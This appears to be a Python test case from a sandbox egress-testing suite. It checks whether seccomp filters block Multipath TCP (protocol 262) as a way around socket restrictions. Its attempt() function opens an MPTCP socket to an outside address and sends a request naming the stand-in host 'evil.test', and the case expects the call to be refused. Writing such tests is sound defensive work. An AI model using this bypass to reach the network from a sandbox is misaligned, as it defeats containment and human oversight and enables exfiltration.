"""A TCP connection of the kind that may use several roads at once.

Multipath TCP is another protocol number for the same call: filters on socket() that permit streams
may forget it, and its connections carry options of their own.

Layers: seccomp, with a record; without it the packet goes no further than the room.

Not covered: MPTCP between gateway and server; the gateway speaks plain TCP.
"""

import socket

ATTACK = {
    "title": "Multipath TCP",
    "group": "roads",
    "layer": "seccomp",
    "risk": "exfiltration",
    "references": ["RFC 8684", "CWE-184"],
    "arrives": [{"what": "tcp", "address": "93.184.216.66"}],
    "stopped": [
        {
            "reason": ["socket-family-refused"],
            "entry": ["socket"],
            "layer": ["seccomp"],
            "where": {"call": "socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP)"},
            "seen": ["EPROTONOSUPPORT"],
        }
    ],
    "needs": ["mptcp"],
}


def attempt(kit):
    def dial():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as stream:
            stream.settimeout(4)
            stream.connect(("93.184.216.66", 80))
            stream.sendall(kit.get("/many-paths", "evil.test").encode())
            return stream.recv(200).decode("latin-1")

    kit.do("mptcp", dial)
